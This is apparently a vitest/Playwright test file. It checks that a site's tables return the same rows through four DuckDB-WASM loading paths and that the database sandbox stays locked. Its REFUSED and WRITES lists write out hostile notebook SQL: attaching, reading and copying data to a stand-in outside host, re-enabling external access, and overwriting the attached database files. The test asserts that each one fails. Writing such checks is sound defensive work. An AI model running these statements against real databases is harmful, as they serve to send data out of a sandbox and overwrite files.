// The same query gives the same rows through every path the site's tables can
// take into DuckDB-WASM in Chromium: Parquet decoded in the page (the path
// before the serving file), and the serving file fetched whole, read over
// Range requests in place, and read over Range requests and then copied into
// memory. Uses the sample tables and the project's real src/components/db.js
// (served unbundled by the benchmark's stage, bench/scale/harness.ts).
import {cpSync, readdirSync, statSync} from "node:fs";
import {createServer, type Server} from "node:http";
import {join} from "node:path";
import type {Browser, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {prepareServing, routeStagePage, stage, type Stage} from "../../bench/scale/harness.js";
import {TABLES, type TableName} from "../../loaders/schema/tables.js";
import {quoteIdentifier} from "../../src/lib/sql.js";
import {tempDir} from "../helpers/dataDir.js";
import {sampleTablesDir} from "../helpers/sampleTables.js";
import {launchBrowser} from "./globalSetup.js";

const ordered = (name: TableName) => `SELECT * FROM ${quoteIdentifier(name)} ORDER BY ${TABLES[name].orderBy.map(quoteIdentifier).join(", ")}`;
/** What pages and notebooks ask: every table whole, lookups, joins, windows, aggregates, a scan without ORDER BY. */
const QUERIES = [
  ...(Object.keys(TABLES) as TableName[]).map(ordered),
  `SELECT area_code, value, status FROM observations WHERE indicator_id = 'bbic_ordinarie_licens' AND year = 2013 ORDER BY area_code`,
  `SELECT o.year, o.value, c.group_id FROM observations o JOIN comparability c ON c.indicator_id = o.indicator_id AND o.year BETWEEN c.first_year AND c.last_year WHERE o.area_code = '00' ORDER BY o.indicator_id, o.year`,
  `SELECT a.name, o.value, rank() OVER (ORDER BY o.value DESC NULLS LAST, a.name) AS r FROM observations o JOIN areas a ON a.code = o.area_code WHERE o.indicator_id = 'handlaggare_socionom_5ar' AND o.year = 2013 AND a.level = 'län' ORDER BY r, a.name`,
  `SELECT indicator_id, year, count(*) AS units, avg(value) AS mean, sum(numerator) AS yes FROM observations GROUP BY indicator_id, year ORDER BY indicator_id, year`,
  `SELECT indicator_id, area_code, year FROM observations WHERE indicator_id LIKE 'overenskommelse%' AND area_code IN ('0180', '1480')`,
  `SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'main' ORDER BY table_name, ordinal_position`
];
const MODES = ["parquet", "whole", "range", "range+copy"];

let browser: Browser;
let base: Stage;
let bytes: number;
const answers: Record<string, {opened: {plan: string; inMemory: boolean; location: string}; rows: string[]; refused: string[]; methods: string[]}> = {};
/** Another port of 127.0.0.1 standing for another host: it must see no request. */
let listener: Server;
let LISTENER = "";
const seen: string[] = [];
/** What a hostile notebook might try once the serving file is attached; each must fail. */
const REFUSED = () => [
  `ATTACH '${LISTENER}/x.duckdb' AS x (READ_ONLY)`,
  `SELECT * FROM read_csv('${LISTENER}/x.csv')`,
  `COPY (SELECT 1) TO '${LISTENER}/x.csv'`,
  "SET allowed_paths = ['http://127.0.0.1']",
  "SET enable_external_access = true"
];
/**
 * Writes to the names of the attached serving file. DuckDB keeps an attached
 * file (and its .wal) open to queries when external access is turned off, so
 * some of these run: they write into the worker's memory, or are refused by
 * DuckDB-WASM ("not opened in write mode") for the file read over HTTP. None
 * may send anything anywhere: only GET and HEAD ever leave the page.
 */
const WRITES = [
  "COPY (SELECT 42 AS secret) TO 'served-range.duckdb' (USE_TMP_FILE false)",
  "COPY (SELECT 42 AS secret) TO 'served-range.duckdb.wal' (USE_TMP_FILE false)",
  "COPY (SELECT 42 AS secret) TO 'served-copy.duckdb.wal' (USE_TMP_FILE false)"
];

async function run(mode: string): Promise<(typeof answers)[string]> {
  const context = await browser.newContext();
  try {
    await routeStagePage(context, "sample", bytes);
    const methods: string[] = [];
    context.on("request", (request) => void methods.push(request.method()));
    const page: Page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await page.goto(`${base.url}/scale.html`);
    await page.waitForFunction(() => (window as unknown as {__ready?: boolean}).__ready, null, {timeout: 60_000});
    const opened = await page.evaluate((m) => (window as unknown as {__open: (m: string) => Promise<{plan: string; inMemory: boolean; location: string}>}).__open(m), mode);
    const rows: string[] = [];
    const ask = (q: string) => page.evaluate((text) => (window as unknown as {__query: (q: string) => Promise<string>}).__query(text), q);
    for (const sql of QUERIES) rows.push(await ask(sql));
    const refused: string[] = [];
    for (const sql of REFUSED()) refused.push(await ask(sql).then(() => `RAN: ${sql}`, (error: Error) => error.message.split("\n")[0]!));
    for (const sql of WRITES) await ask(sql).catch(() => {});
    expect(errors).toEqual([]);
    return {opened, rows, refused, methods: [...new Set(methods)].sort()};
  } finally {
    await context.close();
  }
}

beforeAll(async () => {
  listener = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, {"Access-Control-Allow-Origin": "*"}).end("a\n1\n");
  });
  await new Promise<void>((ok) => listener.listen(0, "127.0.0.1", ok));
  LISTENER = `http://127.0.0.1:${(listener.address() as {port: number}).port}`;
  const dir = tempDir("oj-paths-");
  cpSync(await sampleTablesDir(), dir, {recursive: true});
  bytes = statSync(await prepareServing(dir)).size;
  expect(readdirSync(join(dir, "serving")).sort()).toEqual(["tables.duckdb", "tables.duckdb.br", "tables.duckdb.gz"]);
  base = await stage({sample: dir}, new URL("./servingPaths.page.js", import.meta.url));
  browser = await launchBrowser();
  for (const mode of MODES) answers[mode] = await run(mode);
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await base?.close();
  await new Promise<void>((ok) => listener.close(() => ok()));
});

describe("the site's tables in DuckDB-WASM, every path", () => {
  it("each path is the one asked for: decoded in the page, in memory, in place, in place then in memory", () => {
    expect(MODES.map((m) => answers[m]!.opened)).toEqual([
      {plan: "parquet", inMemory: false, location: "page"},
      {plan: "whole", inMemory: true, location: "memory"},
      {plan: "range", inMemory: false, location: "range"},
      {plan: "range+copy", inMemory: true, location: "memory"}
    ]);
  });

  it("every path stays locked down: no attach, read, copy or setting reaches another host, and nothing but GET and HEAD leaves the page", () => {
    for (const mode of MODES) {
      expect(answers[mode]!.refused.filter((r) => !/Permission Error|configuration has been locked/.test(r)), mode).toEqual([]);
      expect(answers[mode]!.methods, mode).toEqual(mode === "parquet" || mode === "whole" ? ["GET"] : ["GET", "HEAD"]);
    }
    expect(seen).toEqual([]);
  });

  it.each(QUERIES.map((sql, i) => [sql.slice(0, 90), i] as const))("same rows through every path: %s…", (_, i) => {
    const reference = answers.parquet!.rows[i]!;
    expect(JSON.parse(reference).length).toBeGreaterThan(0);
    for (const mode of MODES.slice(1)) expect(answers[mode]!.rows[i], mode).toBe(reference);
  });
});
